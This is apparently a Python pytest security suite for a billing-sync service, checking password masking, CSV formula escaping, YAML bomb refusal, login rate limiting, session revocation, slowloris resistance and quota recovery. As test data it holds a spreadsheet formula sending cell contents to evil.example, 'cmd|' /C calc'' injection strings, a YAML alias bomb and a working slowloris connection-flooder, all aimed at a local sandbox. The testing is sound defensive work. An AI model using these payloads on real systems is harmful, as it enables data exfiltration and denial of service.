"""Security hardening (issue 17): one test per finding of the adversarial review, each
reproducing the attack against real processes and checking the defence.

The ledger URL's password through every output; hostile CSV cells; alias bombs and deep
nesting in config and mapping files; a too-large Stripe amount; the ops login under brute
force and the offline oracle; revoked sessions; a header slowloris against `serve`; and
`serve` resuming write-back after the Salesforce quota recovers.
"""

from __future__ import annotations

import concurrent.futures
import csv
import hashlib
import hmac
import io
import re
import resource
import signal
import socket
import subprocess
import time
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import requests
import sqlalchemy as sa

from billsync.sandbox.launcher import running_sandbox
from billsync.sync.server.ops.signing import Signer
from tests.reliability.summary import Tally
from tests.reliability.test_vendor_faults import _valid_deals
from tests.reliability.world import (
    COMMAND,
    billsync,
    billsync_env,
    ledger_rows,
    run,
    sqlite_url,
    start_serve,
    write_seed,
)
from tests.server.live import free_port

SUITE = "security hardening"
LEDGER_PASSWORD = "Ledger-PW-hardening-8c1f0e7a"


def _with_password(url: str, password: str) -> str:
    return sa.engine.make_url(url).set(password=password).render_as_string(hide_password=False)


def _leaks(texts: dict[str, str], secret: str) -> list[str]:
    return [f"the ledger password is in {where}" for where, text in texts.items() if secret in text]


@pytest.mark.postgres
def test_ledger_url_password_is_masked_everywhere(
    postgres_url: str, tmp_path: Path, tally: Tally
) -> None:
    """PostgreSQL trusts the test client, so the password in the URL is carried but not
    checked: what matters is where billsync prints it."""
    url = _with_password(postgres_url, LEDGER_PASSWORD)
    env = billsync_env(url, BILLSYNC_LOGGING__LEVEL="debug")
    texts: dict[str, str] = {}
    seed = write_seed(tmp_path / "seed.json", _valid_deals(4, 17, 0))
    with running_sandbox(tmp_path / "sb", seed_file=seed) as handle:
        config = handle.config_path
        c = ("--config", str(config))
        done = run(config, env, tmp_path)
        texts["run"] = done.stdout + done.stderr
        assert done.code in (0, 1), done.stderr[-2000:]
        for args in (("config", "check"), ("config", "check", "--json"), ("status",),
                     ("status", "--json"), ("failures", "list"), ("report", "aging")):  # fmt: skip
            result = billsync(env, tmp_path, *args, *c)
            texts[" ".join(args)] = result.stdout + result.stderr
        assert "***@" in texts["config check"], texts["config check"]
        server = start_serve(config, env, tmp_path)
        try:
            for path in ("/healthz", "/readyz", "/metrics"):
                texts[path] = requests.get(f"{server.base_url}{path}", timeout=10).text
        finally:
            server.stop()
        texts["serve log"] = server.log()
    # The URL from a file, an unreachable server and an unparseable URL.
    url_file = tmp_path / "ledger-url"
    url_file.write_text(url + "\n", encoding="utf-8")
    from_file = {k: v for k, v in env.items() if k != "BILLSYNC_LEDGER__URL"}
    shown = billsync({**from_file, "BILLSYNC_LEDGER__URL_FILE": str(url_file)}, tmp_path,
                     "config", "check")  # fmt: skip
    texts["config check (URL from a file)"] = shown.stdout + shown.stderr
    assert shown.returncode == 0 and "***@" in shown.stdout, shown.stderr
    refused = _with_password("postgresql://billsync@127.0.0.1:1/billsync", LEDGER_PASSWORD)
    down = billsync({**env, "BILLSYNC_LEDGER__URL": refused}, tmp_path, "status")
    texts["status, ledger unreachable"] = down.stdout + down.stderr
    assert down.returncode == 2 and "127.0.0.1:1" in down.stderr, down.stderr
    assert "bug" not in down.stderr, down.stderr
    broken = f"postgresql://billsync:{LEDGER_PASSWORD}@[broken/db"
    bad = billsync({**env, "BILLSYNC_LEDGER__URL": broken}, tmp_path, "status")
    texts["status, URL unparseable"] = bad.stdout + bad.stderr
    assert bad.returncode == 2, bad.stderr
    tally.tried(SUITE, len(texts))
    found = tally.violated(SUITE, _leaks(texts, LEDGER_PASSWORD))
    assert found == [], "\n".join(found)


HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _dangerous_cells(where: str, text: str) -> list[str]:
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_START) and not _is_number(cell):
                found.append(f"{where}: formula cell {cell!r}")
    return found


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_hostile_names_never_become_csv_formulas(tmp_path: Path, tally: Tally) -> None:
    """Account and deal names planted in Salesforce by anyone who can edit one."""
    seed = _valid_deals(len(HOSTILE_NAMES) * 2, 1717, 0)
    for account, name in zip(seed["salesforce"]["Account"], HOSTILE_NAMES, strict=False):
        account["Name"] = name
    for deal, name in zip(seed["salesforce"]["Opportunity"], HOSTILE_NAMES, strict=False):
        deal["Name"] = name
    env = billsync_env(sqlite_url(tmp_path / "billsync.db"))
    with running_sandbox(tmp_path / "sb", seed_file=write_seed(tmp_path / "s.json", seed)) as h:
        config = h.config_path
        done = run(config, env, tmp_path)
        assert done.created > 0, done.stderr[-2000:]
        c = ("--config", str(config))
        outputs = {
            " ".join(args): billsync(env, tmp_path, *args, *c)
            for args in (
                ("report", "aging", "--csv"),
                ("report", "aging", "--csv", "--by", "customer"),
                ("report", "kpis", "--csv"),
            )
        }
    problems = []
    for where, result in outputs.items():
        assert result.returncode == 0, result.stderr[-2000:]
        problems += _dangerous_cells(where, result.stdout)
    by_customer = outputs["report aging --csv --by customer"].stdout
    planted = [n for n in HOSTILE_NAMES if "'" + n.strip() in by_customer or "'" + n in by_customer]
    if not planted:
        problems.append("no hostile account name reached the by-customer CSV (test set-up)")
    tally.tried(SUITE, sum(r.stdout.count("\n") for r in outputs.values()))
    found = tally.violated(SUITE, problems)
    assert found == [], "\n".join(found)


YAML_MEMORY_LIMIT = 1024 * 1024 * 1024  # address space: far above a normal start (~0.3 GB)
YAML_TIME_LIMIT_S = 30


def _bomb() -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    return "\n".join(lines) + "\n"


HOSTILE_YAML = {
    "alias bomb": _bomb(),
    "deep nesting": "sync: " + "[" * 20000 + "]" * 20000 + "\n",
}


def _limited() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (YAML_MEMORY_LIMIT, YAML_MEMORY_LIMIT))


def test_hostile_yaml_is_refused_in_config_and_mapping_files(tmp_path: Path, tally: Tally) -> None:
    """Each hostile document as the config file and as a mapping file, through the
    commands that load them (`config check`, `mappings check`, `run`, `serve`), under a
    1 GiB address-space limit: exit 2, one line naming the file, no traceback, in time."""
    env = billsync_env(sqlite_url(tmp_path / "billsync.db"))
    problems = []
    for name, text in HOSTILE_YAML.items():
        hostile = tmp_path / f"{name.replace(' ', '-')}.yaml"
        hostile.write_text(text, encoding="utf-8")
        uses_mapping = tmp_path / "uses-mapping.yaml"
        uses_mapping.write_text(f'sync:\n  mapping_files: ["{hostile}"]\n', encoding="utf-8")
        port = str(free_port())
        cases = [
            ("config check", ("config", "check", "--config", str(hostile))),
            ("run, config", ("run", "--config", str(hostile))),
            ("mappings check", ("mappings", "check", "--config", str(uses_mapping))),
            ("run, mapping", ("run", "--config", str(uses_mapping))),
            (
                "serve, mapping",
                ("serve", "--config", str(uses_mapping), "--host", "127.0.0.1", "--port", port),
            ),
        ]
        for what, args in cases:
            started = time.monotonic()
            try:
                done = subprocess.run(
                    [*COMMAND, *args], capture_output=True, text=True, env=env, cwd=tmp_path,
                    timeout=YAML_TIME_LIMIT_S, check=False, preexec_fn=_limited,
                )  # fmt: skip
            except subprocess.TimeoutExpired:
                problems.append(f"{name}, {what}: still running after {YAML_TIME_LIMIT_S} s")
                continue
            took = time.monotonic() - started
            said = done.stderr.strip()
            where = f"{name}, {what} ({took:.1f} s)"
            if done.returncode != 2:
                problems.append(f"{where}: exit {done.returncode}: {said[-300:]}")
            if "Traceback" in said or "MemoryError" in said or "bug" in said:
                problems.append(f"{where}: {said[-300:]}")
            if str(hostile) not in said or len(said.splitlines()) != 1:
                problems.append(f"{where}: not one line naming the file: {said[-300:]}")
            tally.tried(SUITE)
    found = tally.violated(SUITE, problems)
    assert found == [], "\n".join(found)


def test_a_too_large_stripe_amount_fails_validation_and_leaves_no_draft(
    tmp_path: Path, tally: Tally
) -> None:
    seed = _valid_deals(6, 4711, 0)
    stripe_deals = [d for d in seed["salesforce"]["Opportunity"]
                    if d["Billing_Platform__c"] == "Stripe"]  # fmt: skip
    seed["salesforce"]["Opportunity"] = stripe_deals[:2]
    big = stripe_deals[0]
    big["OpportunityLineItems"] = big["OpportunityLineItems"][:1]
    line = big["OpportunityLineItems"][0]
    line.update(Quantity=Decimal(1), UnitPrice=Decimal("1500000000.00"), Discount=None)
    env = billsync_env(sqlite_url(tmp_path / "billsync.db"))
    with running_sandbox(tmp_path / "sb", seed_file=write_seed(tmp_path / "s.json", seed)) as h:
        done = run(h.config_path, env, tmp_path)
        stripe = h.state().get("stripe", {})
        listed = billsync(env, tmp_path, "failures", "list", "--json", "--config",
                          str(h.config_path))  # fmt: skip
    held = stripe.get("invoices") or []
    invoices = list(held.values()) if isinstance(held, dict) else list(held)
    problems = []
    for invoice in invoices:
        if (invoice.get("metadata") or {}).get("billsync_deal_id") == big["Id"]:
            problems.append(f"a {invoice.get('status')} invoice was left for the too-large deal")
    if len(invoices) != 1:
        problems.append(f"{len(invoices)} Stripe invoices exist; only the normal deal's should")
    if done.created != 1:
        problems.append(f"the normal deal beside it was not invoiced: {done.summary}")
    if big["Id"] not in listed.stdout or "maximum of" not in listed.stdout:
        problems.append(f"no failure naming the limit: {listed.stdout[-600:]}")
    tally.tried(SUITE)
    found = tally.violated(SUITE, problems)
    assert found == [], "\n".join(found)


# --- the ops login ---------------------------------------------------------------------

OPS_TOKEN = (
    "4f0c9e2b7a15d83c6e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d"  # openssl rand -hex 32
)
LOGIN_FIELD = re.compile(r'name="csrf_token" value="([^"]+)"')


def _login(url: str, token: str, browser: requests.Session | None = None) -> requests.Response:
    browser = browser or requests.Session()
    form = browser.get(f"{url}/ops/login", timeout=10)
    data = {"token": token, "csrf_token": LOGIN_FIELD.findall(form.text)[0]}
    return browser.post(f"{url}/ops/login", data=data, timeout=10, allow_redirects=False)


def test_ops_login_brute_force_oracle_and_revoked_sessions(tmp_path: Path, tally: Tally) -> None:
    """Against a real `billsync serve`: a short token is refused at start; 30 fast wrong
    guesses get 6 answers and 24 refusals unread, each counted and audited; the login
    form verifies against no guessed token; revoked and logged-out sessions are refused."""
    ledger = sqlite_url(tmp_path / "billsync.db")
    problems: list[str] = []
    with running_sandbox(tmp_path / "sb") as handle:
        config = handle.config_path
        short = billsync(billsync_env(ledger, BILLSYNC_OPS__TOKEN="s3cret-but-short"), tmp_path,
                         "serve", "--config", str(config), "--port", str(free_port()))  # fmt: skip
        if short.returncode != 2 or "openssl rand -hex 32" not in short.stderr:
            problems.append(f"a 16-character token was not refused: {short.stderr[-500:]}")
        env = billsync_env(ledger, BILLSYNC_OPS__TOKEN=OPS_TOKEN)
        server = start_serve(config, env, tmp_path)
        try:
            url = server.base_url
            # No offline oracle: the form's signed nonce is keyed by the ledger's random
            # key; the token (old derivation) and a guess give other signatures.
            browser = requests.Session()
            form = browser.get(f"{url}/ops/login", timeout=10)
            nonce, signed = browser.cookies["billsync_ops_login"], LOGIN_FIELD.findall(form.text)[0]
            for guess in (OPS_TOKEN, "guess-0001"):
                key = hmac.new(guess.encode(), b"billsync ops signing key v1", hashlib.sha256)
                if Signer(key.digest()).verify("login", nonce, signed):
                    problems.append("the login form verifies against a token guess offline")
            # Brute force from one client, as fast as it goes.
            answers = [_login(url, f"guess-{n:04d}").status_code for n in range(30)]
            if answers.count(401) > 6 or answers.count(429) < 24:
                problems.append(f"30 guesses were not limited: {answers}")
            if _login(url, OPS_TOKEN).status_code != 429:
                problems.append("the right token was read while the client had to wait")
            metrics = requests.get(f"{url}/metrics", timeout=10).text
            for reason, least in (("wrong_token", 6), ("throttled", 25)):
                line = f'billsync_ops_login_refusals_total{{reason="{reason}"}} '
                counted = [
                    float(x.split(" ")[-1]) for x in metrics.splitlines() if x.startswith(line)
                ]
                if not counted or counted[0] < least:
                    problems.append(f"{reason} refusals not counted: {counted}")
            time.sleep(1.2)  # the wait after the sixth wrong guess
            kept, stolen = requests.Session(), requests.Session()
            if _login(url, OPS_TOKEN, kept).status_code != 303:
                problems.append("the right token was refused after the wait")
            _login(url, OPS_TOKEN, stolen)
            copied = stolen.cookies["billsync_ops_session"]
            label = hashlib.sha256(copied.encode()).hexdigest()[:12]
            revoked = billsync(env, tmp_path, "sessions", "revoke", label, "--config", str(config))
            if revoked.returncode != 0:
                problems.append(f"sessions revoke failed: {revoked.stderr[-500:]}")
            replay = requests.get(f"{url}/ops/failures", cookies={"billsync_ops_session": copied},
                                  timeout=10, allow_redirects=False)  # fmt: skip
            if replay.status_code != 303:
                problems.append(f"a revoked session was served: {replay.status_code}")
            page = kept.get(f"{url}/ops/failures", timeout=10)
            kept_cookie = kept.cookies["billsync_ops_session"]
            kept.post(f"{url}/ops/logout", data={"csrf_token": LOGIN_FIELD.findall(page.text)[0]},
                      timeout=10)  # fmt: skip
            jar = {"billsync_ops_session": kept_cookie}
            after = requests.get(f"{url}/ops/failures", cookies=jar, timeout=10,
                                 allow_redirects=False)  # fmt: skip
            if after.status_code != 303:
                problems.append("a logged-out session's copied cookie was still served")
        finally:
            server.stop()
    with sa.create_engine(ledger).connect() as conn:
        query = "SELECT COUNT(*) FROM audit WHERE action = 'ops.login_refused'"
        audited = conn.execute(sa.text(query)).scalar_one()
    if audited < 31:
        problems.append(f"only {audited} refusals audited")
    tally.tried(SUITE, 30)
    found = tally.violated(SUITE, problems)
    assert found == [], "\n".join(found)


# --- a header slowloris against serve ------------------------------------------------------

SLOW_CONNECTIONS = 1100
SLOW_SECONDS = 15.0
FD_LIMIT = 1024  # a common container default, hard: serve cannot raise it
JSON = {"Content-Type": "application/json"}


def _limit_descriptors() -> None:
    resource.setrlimit(resource.RLIMIT_NOFILE, (FD_LIMIT, FD_LIMIT))


def _slowloris(port: int, stop_at: float) -> dict[str, int]:
    """Hold SLOW_CONNECTIONS connections from this one client, each sending the start of
    a request and a header line every 2 s, never the blank line; reopen closed ones."""
    held: list[socket.socket] = []
    opened = closed = 0
    last_drip = time.monotonic()
    while time.monotonic() < stop_at:
        while len(held) < SLOW_CONNECTIONS and time.monotonic() < stop_at:
            sock = socket.socket()
            sock.settimeout(1)
            try:
                sock.connect(("127.0.0.1", port))
                sock.sendall(b"POST /webhooks/stripe HTTP/1.1\r\nHost: 127.0.0.1\r\n")
                held.append(sock)
                opened += 1
            except OSError:
                sock.close()
        if time.monotonic() - last_drip >= 2:
            alive = []
            for sock in held:
                try:
                    sock.sendall(b"X-Slow: 1\r\n")
                    alive.append(sock)
                except OSError:
                    closed += 1
                    sock.close()
            held, last_drip = alive, time.monotonic()
        time.sleep(0.05)
    for sock in held:
        sock.close()
    return {"opened": opened, "closed_by_server": closed}


def test_a_header_slowloris_does_not_starve_health_or_webhooks(
    tmp_path: Path, tally: Tally
) -> None:
    """1,100 connections from one client that never finish their headers, against
    `billsync serve` with a hard limit of 1,024 descriptors, for 15 s; meanwhile /healthz
    and the Stripe webhook endpoint are called every 100 ms: each must answer within
    1 s (before the header deadline and connection bound: almost every call failed)."""
    env = billsync_env(sqlite_url(tmp_path / "billsync.db"))  # the defaults: 10 s, 1000
    port = free_port()
    latencies: dict[str, list[float]] = {"/healthz": [], "/webhooks/stripe": []}
    failures: list[str] = []
    with running_sandbox(tmp_path / "sb") as handle:
        log_path = tmp_path / "serve.log"
        with log_path.open("ab") as out:
            process = subprocess.Popen(
                [*COMMAND, "serve", "--config", str(handle.config_path), "--host", "127.0.0.1",
                 "--port", str(port)],
                env=env, cwd=tmp_path, stdout=out, stderr=subprocess.STDOUT,
                preexec_fn=_limit_descriptors,
            )  # fmt: skip
        try:
            base = f"http://127.0.0.1:{port}"
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline:
                try:
                    if requests.get(f"{base}/readyz", timeout=2).status_code == 200:
                        break
                except requests.ConnectionError:
                    time.sleep(0.1)
            stop_at = time.monotonic() + SLOW_SECONDS
            attacker = concurrent.futures.ThreadPoolExecutor(1)
            attack = attacker.submit(_slowloris, port, stop_at)
            time.sleep(2)  # let the attack fill up
            while time.monotonic() < stop_at - 0.5:
                for path in latencies:
                    started = time.monotonic()
                    try:
                        if path == "/healthz":
                            answer = requests.get(f"{base}{path}", timeout=1)
                            ok = answer.status_code == 200
                        else:  # unsigned: refused, but answered
                            answer = requests.post(f"{base}{path}", data=b"{}", timeout=1,
                                                   headers=JSON)  # fmt: skip
                            ok = answer.status_code == 400
                    except requests.RequestException as exc:
                        ok = False
                        answer = type(exc).__name__  # type: ignore[assignment]
                    took = time.monotonic() - started
                    latencies[path].append(took)
                    if not ok or took > 1.0:
                        failures.append(f"{path}: {answer} after {took:.2f} s")
                time.sleep(0.1)
            held = attack.result(timeout=30)
            attacker.shutdown()
        finally:
            if process.poll() is None:
                process.send_signal(signal.SIGTERM)
                process.wait(timeout=30)
    worst = {path: round(max(times), 3) for path, times in latencies.items() if times}
    print(f"slowloris {SLOW_CONNECTIONS} x {SLOW_SECONDS} s: {held}, worst {worst}, "
          f"calls {sum(map(len, latencies.values()))}, failed {len(failures)}")  # fmt: skip
    problems = failures[:10]
    if held["opened"] < SLOW_CONNECTIONS:
        problems.append(f"the attack never held {SLOW_CONNECTIONS} connections: {held}")
    if min(map(len, latencies.values())) < 20:
        problems.append(f"too few calls measured: {latencies}")
    tally.tried(SUITE, sum(map(len, latencies.values())))
    found = tally.violated(SUITE, problems)
    assert found == [], "\n".join(found)


# --- serve's quota floor recovers -------------------------------------------------------


def _shown(handle: Any, deal_id: str) -> str | None:
    deals = handle.state()["salesforce"]["Opportunity"]
    return next((d.get("Billing_Status__c") for d in deals if d["Id"] == deal_id), None)


def _wait_for(check: Callable[[], bool], seconds: float = 30) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if check():
            return True
        time.sleep(0.3)
    return False


def test_serve_resumes_write_back_after_the_quota_recovers(tmp_path: Path, tally: Tally) -> None:
    """`billsync serve` at the Salesforce quota floor refuses write-back; once the org's
    allocation is back above the floor, the next payment is written back by the same
    process (it re-reads the allocation every salesforce.quota_recheck_s, here 2 s)."""
    seed = _valid_deals(12, 1717, 0)
    deals = [d for d in seed["salesforce"]["Opportunity"] if d["Billing_Platform__c"] == "Stripe"]
    seed["salesforce"]["Opportunity"] = deals[:3]
    ledger = sqlite_url(tmp_path / "billsync.db")
    env = billsync_env(ledger, BILLSYNC_SALESFORCE__QUOTA_FLOOR_PERCENT="10",
                       BILLSYNC_SALESFORCE__QUOTA_RECHECK_S="2")  # fmt: skip
    port = free_port()
    problems: list[str] = []
    with running_sandbox(tmp_path / "sb", seed_file=write_seed(tmp_path / "s.json", seed),
                         webhook_url=f"http://127.0.0.1:{port}") as h:  # fmt: skip
        done = run(h.config_path, env, tmp_path)
        assert done.created == 3, done.summary
        invoices = {r["deal_id"]: r["external_id"] for r in ledger_rows(ledger, "invoices")}
        first, second, third = (d["Id"] for d in deals[:3])
        server = start_serve(h.config_path, env, tmp_path, port=port)
        try:
            h.admin("POST", "salesforce/limits", {"used": 95_000})  # below the 10% floor
            h.admin("POST", f"stripe/invoices/{invoices[first]}/pay", {})
            if not _wait_for(lambda: _shown(h, first) == "Paid"):  # this call sees the floor
                problems.append("the first payment was not written back")

            def refused() -> bool:
                rows = ledger_rows(ledger, "work_items")
                return any(r["last_error_code"] == "QUOTA_FLOOR" for r in rows)

            h.admin("POST", f"stripe/invoices/{invoices[second]}/pay", {})
            if not _wait_for(refused):
                problems.append("write-back was not refused at the quota floor")
            if _shown(h, second) == "Paid":
                problems.append("write-back went on below the floor")
            h.admin("POST", "salesforce/limits", {"used": 1_000})  # the allocation recovered
            time.sleep(2.5)  # a recheck is due
            h.admin("POST", f"stripe/invoices/{invoices[third]}/pay", {})
            if not _wait_for(lambda: _shown(h, third) == "Paid"):
                problems.append("serve did not resume write-back after the quota recovered")
        finally:
            server.stop()
        log = server.log()
    if "salesforce.quota_recovered" not in log:
        problems.append("no salesforce.quota_recovered in the serve log")
    tally.tried(SUITE, 3)
    found = tally.violated(SUITE, problems)
    assert found == [], "\n".join(found)
